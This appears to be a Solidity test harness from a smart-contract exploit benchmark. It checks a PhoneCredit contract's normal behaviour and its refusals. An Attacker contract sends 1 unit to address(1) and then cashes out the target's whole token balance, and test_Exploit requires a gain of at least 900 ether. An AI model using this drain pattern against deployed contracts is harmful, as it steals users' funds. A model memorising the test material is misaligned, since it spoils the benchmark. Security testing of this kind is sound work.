pragma solidity 0.4.26;

import "./PhoneCredit.sol";

// assay-canary-34480f9f-a445-48e0-9bdc-5e29bdc6f97d

interface Vm {
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Token {
    address private maker = msg.sender;
    bool private halted;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker);
        balanceOf[to] += amount;
    }

    function halt() external {
        require(msg.sender == maker);
        halted = true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount) return false;
        if (!_move(from, to, amount)) return false;
        allowance[from][msg.sender] -= amount;
        return true;
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        if (halted || balanceOf[from] < amount) return false;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Token public token;
    PhoneCredit private phones;
    Attacker private mallory;

    function setUp() public {
        token = new Token();
        phones = new PhoneCredit(IToken(address(token)));
        token.mint(ANA, 1000 ether);
        vm.startPrank(ANA);
        token.approve(address(phones), 1000 ether);
        phones.topUp(ANA, 600 ether);
        phones.topUp(BEN, 300 ether);
        vm.stopPrank();
        mallory = new Attacker(phones, token);
    }

    function test_Regular() public {
        vm.prank(ANA);
        phones.send(CAT, 50 ether);
        require(phones.credit(ANA) == 550 ether && phones.credit(CAT) == 50 ether, "sent");
        vm.prank(CAT);
        phones.send(CAT, 49 ether);
        require(phones.credit(CAT) == 50 ether, "to itself");
        phones.charge(BEN, 100 ether);
        phones.collect();
        require(token.balanceOf(address(this)) == 100 ether && phones.credit(BEN) == 200 ether, "charged");
        vm.prank(CAT);
        phones.cashOut(20 ether);
        require(token.balanceOf(CAT) == 20 ether && phones.credit(CAT) == 30 ether, "cashed out");
        phones.close(CAT);
        require(token.balanceOf(CAT) == 50 ether && phones.credit(CAT) == 0, "closed");
        phones.changeCarrier(BEN);
        require(phones.carrier() == BEN, "handed over");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("not the carrier");
        phones.changeCarrier(ANA);
        vm.expectRevert("not the carrier");
        phones.charge(BEN, 1);
        vm.expectRevert("not the carrier");
        phones.collect();
        vm.expectRevert("not the carrier");
        phones.close(BEN);
        vm.stopPrank();
    }

    function test_RefusesNobody() public {
        vm.expectRevert("no token");
        new PhoneCredit(IToken(address(0)));
        vm.expectRevert("no carrier");
        phones.changeCarrier(address(0));
        vm.startPrank(ANA);
        vm.expectRevert("no phone");
        phones.topUp(address(0), 1);
        vm.expectRevert("no phone");
        phones.send(address(0), 1);
        vm.stopPrank();
    }

    function test_RefusesTooMuch() public {
        vm.startPrank(ANA);
        vm.expectRevert("too little");
        phones.send(BEN, 599 ether + 1);
        vm.expectRevert("too little");
        phones.cashOut(600 ether + 1);
        vm.expectRevert("too little");
        phones.cashOut(599 ether + 1);
        vm.expectRevert("sum too large");
        phones.topUp(ANA, uint256(-1));
        vm.expectRevert("not paid");
        phones.topUp(ANA, 101 ether);
        vm.stopPrank();
        vm.expectRevert("too little");
        phones.charge(BEN, 300 ether + 1);
    }

    function test_RefusesHalted() public {
        phones.charge(BEN, 100 ether);
        token.halt();
        vm.expectRevert("not paid");
        phones.collect();
        vm.expectRevert("not paid");
        phones.close(BEN);
        vm.prank(ANA);
        vm.expectRevert("not paid");
        phones.cashOut(1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 900 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(phones);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PhoneCredit private phones;
    Token private token;

    constructor(PhoneCredit _phones, Token _token) public {
        phones = _phones;
        token = _token;
    }

    function run() external {
        phones.send(address(1), 1);
        phones.cashOut(token.balanceOf(address(phones)));
    }
}
